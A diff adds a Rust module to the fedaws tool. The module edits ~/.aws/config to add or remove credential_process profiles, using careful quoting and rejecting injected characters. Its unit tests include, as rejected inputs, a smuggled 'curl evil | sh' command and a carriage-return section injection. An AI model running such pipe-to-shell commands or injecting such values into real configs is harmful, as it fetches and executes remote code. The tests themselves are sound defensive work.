@@ -1,0 +1,504 @@
+//! `~/.aws/config`, which the AWS CLI and every SDK read: where it is, which of its profiles run
+//! fedaws through `credential_process`, and how a profile is added or removed.
+//!
+//! The file belongs to the user and to other tools, so it is edited as text: only the lines of
+//! the one profile change, every other line, comment and profile stays byte for byte, and the file
+//! is replaced atomically under a lock. Within a profile fedaws wrote, only the keys it writes
+//! (`credential_process`, `region`) change; lines the user added there (`output`, `cli_pager`,
+//! nested `s3 =` blocks) stay. The AWS CLI runs what this file says, so nothing written here may
+//! hold a control character: a carriage return in a path could start a new section.
+
+use std::path::{Path, PathBuf};
+
+use crate::error::UserError;
+use crate::fsutil;
+
+/// `AWS_CONFIG_FILE`, else `~/.aws/config`.
+pub fn aws_config_path() -> anyhow::Result<PathBuf> {
+    if let Some(p) = std::env::var_os("AWS_CONFIG_FILE").filter(|p| !p.is_empty()) {
+        return Ok(PathBuf::from(p));
+    }
+    directories::BaseDirs::new()
+        .map(|b| b.home_dir().join(".aws").join("config"))
+        .ok_or_else(|| UserError::usage("cannot find the home directory for ~/.aws/config").into())
+}
+
+/// Refuse a value that would break a line of `~/.aws/config`: any control character (a carriage
+/// return or newline would start a line of the attacker's choosing).
+pub fn plain_line(what: &str, value: &str) -> Result<(), UserError> {
+    match value.chars().find(|c| c.is_control()) {
+        None => Ok(()),
+        Some(c) => Err(UserError::usage(format!(
+            "{what} {:?} holds the control character U+{:04X}, which cannot be written into ~/.aws/config",
+            value,
+            u32::from(c)
+        ))),
+    }
+}
+
+/// Quote one word of the command the way both botocore (shell-like split) and the Rust SDK
+/// (`sh -c`) read it.
+fn quote_word(what: &str, word: &str) -> Result<String, UserError> {
+    plain_line(what, word)?;
+    if !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "/._-+=:,@".contains(c))
+    {
+        return Ok(word.to_string());
+    }
+    if word.contains(['"', '\\', '$', '`']) {
+        return Err(UserError::usage(format!(
+            "{what} {word:?} has characters a credential_process command cannot quote portably; move it"
+        )));
+    }
+    Ok(format!("\"{word}\""))
+}
+
+/// The `credential_process` command fedaws writes: the program, `--config PATH` when one is
+/// pinned, then `creds CONNECTOR --format json`, each word quoted by [`quote_word`].
+pub fn render_command(
+    program: &str,
+    config: Option<&str>,
+    connector: &str,
+) -> Result<String, UserError> {
+    let mut words = vec![quote_word("the path of the fedaws binary", program)?];
+    if let Some(config) = config {
+        words.push("--config".into());
+        words.push(quote_word("the config path", config)?);
+    }
+    words.extend([
+        "creds".to_string(),
+        quote_word("the connector name", connector)?,
+        "--format".into(),
+        "json".into(),
+    ]);
+    Ok(words.join(" "))
+}
+
+/// The command, when a `credential_process` value is exactly what fedaws writes (program named
+/// `fedaws`, optional `--config`, `creds CONNECTOR --format json`, quoted as fedaws quotes).
+pub fn written_by_fedaws(command: &str) -> Option<FedawsCommand> {
+    let w = words(command);
+    let (program, config, rest) = match w.as_slice() {
+        [program, flag, config, rest @ ..] if flag == "--config" => {
+            (program, Some(config.clone()), rest)
+        }
+        [program, rest @ ..] => (program, None, rest),
+        [] => return None,
+    };
+    let [creds, connector, format, json] = rest else {
+        return None;
+    };
+    let named_fedaws = Path::new(program)
+        .file_name()
+        .is_some_and(|f| f == "fedaws");
+    if !named_fedaws || creds != "creds" || format != "--format" || json != "json" {
+        return None;
+    }
+    let exact = render_command(program, config.as_deref(), connector)
+        .is_ok_and(|again| again == command.trim());
+    exact.then(|| FedawsCommand {
+        program: program.clone(),
+        config,
+        connector: connector.clone(),
+    })
+}
+
+/// What a `credential_process` line fedaws wrote asks for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FedawsCommand {
+    /// The program.
+    pub program: String,
+    /// The config it pins with `--config`, if any.
+    pub config: Option<String>,
+    /// The connector.
+    pub connector: String,
+}
+
+/// The header line that names a profile in `~/.aws/config`.
+fn header(profile: &str) -> String {
+    if profile == "default" {
+        "[default]".to_string()
+    } else {
+        format!("[profile {profile}]")
+    }
+}
+
+/// The profile name of a section header line, if the line is one.
+fn section_name(line: &str) -> Option<String> {
+    let t = line.trim();
+    let inner = t.strip_prefix('[')?.strip_suffix(']')?.trim();
+    if inner == "default" {
+        return Some("default".into());
+    }
+    let mut words = inner.split_whitespace();
+    match (words.next(), words.next(), words.next()) {
+        (Some("profile"), Some(name), None) => Some(name.to_string()),
+        (Some(other), None, None) => Some(format!("\0{other}")),
+        _ => Some(format!("\0{inner}")),
+    }
+}
+
+/// Where a profile's section is: line range `[start, end)`, `end` at the next header.
+fn find_section(lines: &[&str], profile: &str) -> Option<(usize, usize)> {
+    let start = lines
+        .iter()
+        .position(|l| section_name(l).as_deref() == Some(profile))?;
+    let end = lines[start + 1..]
+        .iter()
+        .position(|l| section_name(l).is_some())
+        .map_or(lines.len(), |i| start + 1 + i);
+    Some((start, end))
+}
+
+/// Whether a line is a top-level `key = value` of its section for `key` (not a line of a nested
+/// block such as `s3 =`, which is indented).
+fn is_key_line(line: &str, key: &str) -> bool {
+    !line.starts_with(char::is_whitespace)
+        && line.split_once('=').is_some_and(|(k, _)| k.trim() == key)
+}
+
+/// The value of top-level `key` in a section's lines.
+fn value_of(lines: &[&str], key: &str) -> Option<String> {
+    lines
+        .iter()
+        .find(|l| is_key_line(l, key))
+        .and_then(|l| l.split_once('='))
+        .map(|(_, v)| v.trim().to_string())
+}
+
+/// A `credential_process` profile that runs fedaws, as found in `~/.aws/config`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FedawsProfile {
+    /// The profile's name.
+    pub profile: String,
+    /// The program the command runs.
+    pub program: String,
+    /// The config it pins with `--config`, if any.
+    pub config: Option<String>,
+    /// The connector it asks for.
+    pub connector: String,
+}
+
+/// Split a `credential_process` value into words: whitespace-separated, double quotes grouping.
+fn words(command: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quoted = false;
+    let mut any = false;
+    for c in command.chars() {
+        match c {
+            '"' => {
+                quoted = !quoted;
+                any = true;
+            }
+            c if c.is_whitespace() && !quoted => {
+                if any {
+                    out.push(std::mem::take(&mut cur));
+                    any = false;
+                }
+            }
+            c => {
+                cur.push(c);
+                any = true;
+            }
+        }
+    }
+    if any {
+        out.push(cur);
+    }
+    out
+}
+
+/// Every profile whose `credential_process` is `… creds CONNECTOR …` of a fedaws binary.
+pub fn fedaws_profiles(text: &str) -> Vec<FedawsProfile> {
+    let lines: Vec<&str> = text.split_inclusive('\n').collect();
+    let mut found = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        let Some(name) = section_name(line).filter(|n| !n.starts_with('\0')) else {
+            continue;
+        };
+        let end = lines[i + 1..]
+            .iter()
+            .position(|l| section_name(l).is_some())
+            .map_or(lines.len(), |j| i + 1 + j);
+        let Some(command) = value_of(&lines[i + 1..end], "credential_process") else {
+            continue;
+        };
+        let w = words(&command);
+        let Some(program) = w.first() else { continue };
+        if !Path::new(program)
+            .file_name()
+            .is_some_and(|f| f.to_string_lossy().starts_with("fedaws"))
+        {
+            continue;
+        }
+        let Some(pos) = w.iter().position(|x| x == "creds") else {
+            continue;
+        };
+        let config = w
+            .iter()
+            .position(|x| x == "--config")
+            .and_then(|p| w.get(p + 1).cloned());
+        if let Some(connector) = w.get(pos + 1) {
+            found.push(FedawsProfile {
+                profile: name,
+                program: program.clone(),
+                config,
+                connector: connector.clone(),
+            });
+        }
+    }
+    found
+}
+
+/// Add a profile to `text`, or update one: in a profile that `is_ours`, only the `settings`
+/// keys change (in place, or added after the header) and every other line stays; a profile that
+/// is not ours is replaced whole with `force`, and refused without it. The rest of the text is
+/// kept byte for byte.
+pub fn with_profile(
+    text: &str,
+    profile: &str,
+    settings: &[(&str, String)],
+    is_ours: impl Fn(&str) -> bool,
+    force: bool,
+) -> Result<String, UserError> {
+    let block = || -> String {
+        let mut b = format!("{}\n", header(profile));
+        for (k, v) in settings {
+            b.push_str(&format!("{k} = {v}\n"));
+        }
+        b
+    };
+    let lines: Vec<&str> = text.split_inclusive('\n').collect();
+    let Some((start, end)) = find_section(&lines, profile) else {
+        let mut out = text.to_string();
+        if !out.is_empty() && !out.ends_with('\n') {
+            out.push('\n');
+        }
+        if !out.is_empty() && !out.ends_with("\n\n") {
+            out.push('\n');
+        }
+        out.push_str(&block());
+        return Ok(out);
+    };
+    let body = &lines[start + 1..end];
+    if value_of(body, "credential_process").is_some_and(|v| is_ours(&v)) {
+        let mut section: Vec<String> = lines[start..end].iter().map(|l| l.to_string()).collect();
+        if !section[0].ends_with('\n') {
+            section[0].push('\n');
+        }
+        let mut after = 1;
+        for (key, value) in settings {
+            let line = format!("{key} = {value}\n");
+            match section.iter().skip(1).position(|l| is_key_line(l, key)) {
+                Some(i) => {
+                    let idx = i + 1;
+                    let newline = if section[idx].ends_with('\n') {
+                        "\n"
+                    } else {
+                        ""
+                    };
+                    section[idx] = format!("{key} = {value}{newline}");
+                    after = after.max(idx + 1);
+                }
+                None => {
+                    if !section[after - 1].ends_with('\n') {
+                        section[after - 1].push('\n');
+                    }
+                    section.insert(after, line);
+                    after += 1;
+                }
+            }
+        }
+        let mut out: String = lines[..start].concat();
+        out.push_str(&section.concat());
+        out.push_str(&lines[end..].concat());
+        return Ok(out);
+    }
+    if !force {
+        return Err(UserError::usage(format!(
+            "profile `{profile}` already exists with other settings; add --force to replace it, or choose another name with --profile"
+        )));
+    }
+    // Keep the blank lines and comments that separate it from the next section.
+    let mut keep_from = end;
+    while keep_from > start + 1 && {
+        let t = lines[keep_from - 1].trim();
+        t.is_empty() || t.starts_with('#') || t.starts_with(';')
+    } {
+        keep_from -= 1;
+    }
+    let mut out: String = lines[..start].concat();
+    out.push_str(&block());
+    out.push_str(&lines[keep_from..].concat());
+    Ok(out)
+}
+
+/// `text` without `profile`'s section; only a profile fedaws wrote unless `force`. `place` names
+/// the file in messages.
+pub fn without_profile(
+    text: &str,
+    profile: &str,
+    force: bool,
+    place: &Path,
+) -> Result<String, UserError> {
+    let lines: Vec<&str> = text.split_inclusive('\n').collect();
+    let Some((start, end)) = find_section(&lines, profile) else {
+        return Err(UserError::usage(format!(
+            "there is no profile `{profile}` in {}",
+            place.display()
+        )));
+    };
+    let ours = value_of(&lines[start + 1..end], "credential_process")
+        .is_some_and(|v| written_by_fedaws(&v).is_some());
+    if !ours && !force {
+        return Err(UserError::usage(format!(
+            "profile `{profile}` was not written by fedaws; add --force to remove it anyway"
+        )));
+    }
+    // A profile at the end of the file was appended after a blank separator: take it too.
+    let from = if end == lines.len() && start > 0 && lines[start - 1].trim().is_empty() {
+        start - 1
+    } else {
+        start
+    };
+    let mut out = lines[..from].concat();
+    out.push_str(&lines[end..].concat());
+    Ok(out)
+}
+
+/// Read, change and atomically replace a file under its lock; a missing file reads as empty. A
+/// file (or the directory it would be made in) that others could change is refused.
+pub fn edit_file(
+    path: &Path,
+    change: impl FnOnce(&str) -> Result<String, UserError>,
+) -> anyhow::Result<()> {
+    // Nothing is followed, locked or written where someone else could have pointed it (root
+    // with another user's HOME, through `sudo -E`, would otherwise write where their link goes).
+    crate::trust::check_for_writing(path, crate::trust::Role::AwsConfig)?;
+    let _lock = fsutil::lock_beside(path)?;
+    let text = match std::fs::read_to_string(path) {
+        Ok(t) => t,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e.into()),
+    };
+    let new = change(&text)?;
+    if new != text {
+        fsutil::write_atomic(path, new.as_bytes())?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HAND_WRITTEN: &str = "# my aws config\n[default]\nregion = eu-west-1 ; inline\n\n[profile other]\n# keep me\ncredential_process = /usr/bin/other\n\n[sso-session x]\nsso_region = us-east-1\n";
+
+    fn ours(connector: &str) -> Vec<(&'static str, String)> {
+        vec![(
+            "credential_process",
+            format!("/bin/fedaws creds {connector} --format json"),
+        )]
+    }
+
+    #[test]
+    fn adding_keeps_every_other_byte() {
+        let out = with_profile(HAND_WRITTEN, "dev", &ours("dev"), |_| true, false).unwrap();
+        let block = "[profile dev]\ncredential_process = /bin/fedaws creds dev --format json\n";
+        assert!(out.starts_with(HAND_WRITTEN), "{out}");
+        assert!(out.ends_with(&format!("\n\n{block}")), "{out}");
+        let again = with_profile(&out, "dev", &ours("dev"), |_| true, false).unwrap();
+        assert_eq!(again, out);
+    }
+
+    #[test]
+    fn a_foreign_profile_is_only_replaced_with_force() {
+        let settings = ours("other");
+        assert!(with_profile(HAND_WRITTEN, "other", &settings, |_| false, false).is_err());
+        let out = with_profile(HAND_WRITTEN, "other", &settings, |_| false, true).unwrap();
+        assert!(out.contains("[default]\nregion = eu-west-1 ; inline\n\n"));
+        assert!(out.contains(
+            "[profile other]\ncredential_process = /bin/fedaws creds other --format json\n"
+        ));
+        assert!(!out.contains("/usr/bin/other"));
+        assert!(
+            out.contains("\n\n[sso-session x]\nsso_region = us-east-1\n"),
+            "{out}"
+        );
+    }
+
+    #[test]
+    fn rewriting_our_profile_keeps_the_lines_the_user_added() {
+        let text = "[profile app]\noutput = json\ncredential_process = /old/fedaws creds app --format json\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n";
+        let mut settings = ours("app");
+        settings.push(("region", "eu-west-1".into()));
+        let out = with_profile(text, "app", &settings, |_| true, false).unwrap();
+        assert_eq!(
+            out,
+            "[profile app]\noutput = json\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n"
+        );
+        let again = with_profile(&out, "app", &settings, |_| true, false).unwrap();
+        assert_eq!(again, out, "a second run changes nothing");
+    }
+
+    #[test]
+    fn only_the_exact_form_fedaws_writes_is_ours() {
+        let ok = [
+            "/usr/bin/fedaws creds app --format json",
+            "\"/opt/my tools/fedaws\" --config /c.toml creds app --format json",
+        ];
+        for c in ok {
+            assert!(written_by_fedaws(c).is_some(), "{c}");
+        }
+        let not = [
+            "/usr/bin/fedaws creds app --format json; curl evil | sh",
+            "sh -c 'echo fedaws creds x'",
+            "/usr/bin/fedaws-evil creds app --format json",
+            "/usr/bin/fedaws creds app --format json --extra",
+            "/usr/bin/fedaws  creds app --format json",
+            "/usr/bin/fedaws creds \"app\" --format json",
+        ];
+        for c in not {
+            assert!(written_by_fedaws(c).is_none(), "{c}");
+        }
+    }
+
+    #[test]
+    fn finds_the_profiles_that_run_fedaws() {
+        let text = format!(
+            "{HAND_WRITTEN}\n[profile app]\ncredential_process = \"/opt/my tools/fedaws\" --config /c.toml creds app --format json\n"
+        );
+        assert_eq!(
+            fedaws_profiles(&text),
+            vec![FedawsProfile {
+                profile: "app".into(),
+                program: "/opt/my tools/fedaws".into(),
+                config: Some("/c.toml".into()),
+                connector: "app".into(),
+            }]
+        );
+    }
+
+    #[test]
+    fn quoting() {
+        let q = |w: &str| quote_word("x", w);
+        assert_eq!(q("/usr/bin/fedaws").unwrap(), "/usr/bin/fedaws");
+        assert_eq!(
+            q("/opt/my tools/fedaws").unwrap(),
+            "\"/opt/my tools/fedaws\""
+        );
+        assert!(q("/opt/$x/fedaws").is_err());
+        for bad in [
+            "/tmp/a\r[profile prod]",
+            "/tmp/a\nb",
+            "/tmp/\u{1b}",
+            "/tmp/\u{85}",
+        ] {
+            let e = q(bad).unwrap_err().to_string();
+            assert!(e.contains("control character"), "{e}");
+        }
+    }
+}
